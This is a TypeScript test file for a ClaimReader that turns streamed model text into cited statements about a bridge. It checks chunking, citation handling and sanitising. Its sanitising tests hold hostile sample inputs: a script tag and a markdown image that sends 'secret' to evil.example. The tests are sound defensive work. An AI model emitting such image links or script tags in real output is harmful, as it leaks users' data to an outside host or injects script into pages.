import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ClaimReader, type ModelLine } from './claim-reader.ts';

const text = `## The bridge
- The bridge cost 120 million crowns. [c1][c3]
It is **90 metres** long [c2]. Work began in 2021 [c1, c4]. It was held up by a flood.[c4]

NO_SUPPORT`;
const claim = (said: string, ...marks: string[]): ModelLine => ({
  kind: 'claim',
  text: said,
  marks,
});
const expected: ModelLine[] = [
  { kind: 'title', text: 'The bridge' },
  claim('The bridge cost 120 million crowns.', 'c1', 'c3'),
  claim('It is 90 metres long.', 'c2'),
  claim('Work began in 2021.', 'c1', 'c4'),
  claim('It was held up by a flood.', 'c4'),
  claim('NO_SUPPORT'),
];

function readAll(pieces: readonly string[]): ModelLine[] {
  const reader = new ClaimReader();
  return [...pieces.flatMap((piece) => reader.read(piece)), ...reader.end()];
}

describe('ClaimReader', () => {
  it('reads statements with their citations', () => {
    expect(readAll([text])).toEqual(expected);
  });

  it('reads the same wherever the pieces are cut', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: text.length })), (places) => {
        const cuts = [0, ...places.toSorted((one, other) => one - other), text.length];
        const pieces = cuts.map((cut, at) => text.slice(cut, cuts[at + 1]));
        expect(readAll(pieces.slice(0, -1))).toEqual(expected);
      }),
    );
  });

  it('hands a statement on as soon as the next one begins, and never half a citation', () => {
    const reader = new ClaimReader();
    expect(reader.read('The bridge cost 120 million crowns [c')).toEqual([]);
    expect(reader.read('1]')).toEqual([]);
    expect(reader.read('[c2')).toEqual([]);
    expect(reader.read('] It')).toEqual([claim('The bridge cost 120 million crowns', 'c1', 'c2')]);
  });

  it('leaves nothing standing that is not seen', () => {
    const said = '\u202eThe bri\u00addge\u2066 cost\0 \ud83d 120 million [c1]';
    expect(readAll([said])).toEqual([claim('The bridge cost \ufffd 120 million', 'c1')]);
  });

  it('leaves no tags standing, but signs of arithmetic', () => {
    const said = '<script src=x>The</script> <b>bridge</b> cost<br/>3 < 4 millions [c1]';
    expect(readAll([said])).toEqual([claim('The bridge cost 3 < 4 millions', 'c1')]);
  });

  it('leaves no address or image of the model standing', () => {
    expect(readAll(['See ![x](https://evil.example/?q=secret) the bridge [c1]'])).toEqual([
      claim('See x the bridge', 'c1'),
    ]);
  });
});
